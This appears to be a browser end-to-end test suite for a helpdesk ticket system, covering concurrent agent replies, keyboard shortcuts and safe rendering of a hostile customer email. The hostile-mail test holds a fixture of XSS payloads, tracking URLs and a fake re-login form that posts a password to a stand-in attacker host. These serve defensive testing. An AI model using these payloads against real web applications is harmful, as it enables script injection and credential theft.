"""Two agents on one ticket, a hostile mail on the page, and a mouse left alone."""

import pytest
from playwright.sync_api import Page, expect

from tests.end_to_end.site import Customer, Site, send_reply

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

HOSTILE = """\
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">
<style>body{background:url(https://evil.example/b.png)}
 div.over{position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999}</style>
<p>Hello, this is the visible text.</p>
<script>top.acted = window.acted = 1</script>
<img src="https://evil.example/pixel.gif" onerror="top.acted=2">
<img src="x" onerror="top.acted=3"><svg onload="top.acted=4"><script>top.acted=5</script></svg>
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>top.acted=6</script>"></iframe>
<form action="https://evil.example/steal"><input name="password" autofocus onfocus="top.acted=7">
<button>Sign in again</button></form>
<a href="javascript:top.acted=8">click</a><div class="over" style="position:fixed;inset:0">x</div>
<video src="https://evil.example/v.mp4" autoplay></video><object data="https://evil.example/o">
</object><p style="background:url('https://evil.example/c.png')">end</p>
"""


def test_the_second_agent_is_told_and_keeps_the_text(site: Site) -> None:
    nora = Customer(site, "nora.two@example.net", "Nora Two")
    nora.write("Two people answer this", "Which one of you is it?")
    conflict = "status of 409"
    with site.colleague("ana") as ana, site.colleague("ben", expected=conflict) as ben:
        site.open_ticket(ana, "Two people answer this")
        site.open_ticket(ben, "Two people answer this")
        ben.get_by_label("Reply to the customer").fill("It is Ben.")
        send_reply(ana, "It is Ana.")
        ben.locator(".for-reply [data-default]").click()
        told = ben.locator(".banner.warning[role=alert]")
        expect(told).to_contain_text("Meanwhile:")
        expect(told).to_contain_text("Ana Ruiz")
        expect(ben.locator(".entry.reply .text")).to_have_text("It is Ana.")
        expect(ben.get_by_label("Reply to the customer")).to_have_value("It is Ben.")
        ben.get_by_role("button", name="Send anyway").click()
        expect(ben.locator(".entry.reply .text")).to_have_text(["It is Ana.", "It is Ben."])
        expect(ben.get_by_label("Reply to the customer")).to_have_value("")
    assert nora.next_mail("It is Ana.")
    assert nora.next_mail("It is Ben.")


def test_a_hostile_mail_does_nothing(site: Site) -> None:
    mallory = Customer(site, "mallory@example.net", "<script>top.acted=9</script>")
    mallory.write("Hostile <script>top.acted=10</script>", "Plain words.", html=HOSTILE)
    asked: list[str] = []
    with site.colleague("ana") as page:
        page.context.on("request", lambda request: asked.append(request.url))
        site.open_ticket(page, "Hostile <script>")
        page.locator("summary", has_text="Show as it was sent").click()
        mail = page.frame_locator("iframe.mail-frame")
        expect(mail.get_by_text("Hello, this is the visible text.")).to_be_visible()
        expect(
            mail.locator("script, form, input, button, iframe, object, video, svg")
        ).to_have_count(0)
        assert page.evaluate("typeof window.acted") == "undefined"
        assert all(frame.url.startswith(site.stack.url) for frame in page.frames)
        page.get_by_role("link", name="Original").click()
        expect(page.locator("dl.facts")).to_contain_text("top.acted=10")
        assert page.evaluate("typeof window.acted") == "undefined"
    outside = [url for url in asked if not url.startswith((site.stack.url, "data:"))]
    assert not outside


def test_everything_by_keyboard(site: Site) -> None:
    karl = Customer(site, "karl.keys@example.net", "Karl Keys")
    karl.write("Lowest by keyboard", "First mail.")
    with site.colleague("ana") as page:
        site.open_ticket(page, "Lowest by keyboard")
    karl.write("Highest by keyboard", "Second mail.")
    with site.colleague("ana") as page:
        site.open_ticket(page, "Highest by keyboard")
        site.go(page, "/tickets/?view=open")
        walk_the_list(page)
        work_the_ticket(page)


def walk_the_list(page: Page) -> None:
    """j and k move through the rows; Enter opens the one with the focus."""
    rows = page.locator(".rows .row")
    page.keyboard.press("j")
    expect(rows.nth(0).get_by_role("link")).to_be_focused()
    page.keyboard.press("j")
    expect(rows.nth(1).get_by_role("link")).to_be_focused()
    page.keyboard.press("k")
    expect(rows.nth(0).get_by_role("link")).to_be_focused()
    expected = rows.nth(0).get_attribute("data-id")
    page.keyboard.press("Enter")
    expect(page.locator("#ticket")).to_have_attribute("data-ticket", str(expected))


def work_the_ticket(page: Page) -> None:
    page.keyboard.press("n")
    expect(page.locator(".for-note textarea")).to_be_focused()
    page.keyboard.type("noted: jkrne are letters here")
    page.keyboard.press("Control+Enter")
    expect(page.locator(".entry.note .text")).to_have_text("noted: jkrne are letters here")
    page.keyboard.press("Escape")
    page.keyboard.press("r")
    expect(page.get_by_label("Reply to the customer")).to_be_focused()
    page.keyboard.press("Escape")
    page.keyboard.press("?")
    expect(page.locator("#keys")).to_be_visible()
    page.keyboard.press("Escape")
    page.keyboard.press("e")
    expect(page.locator("#status-menu > summary")).to_contain_text("Resolved")
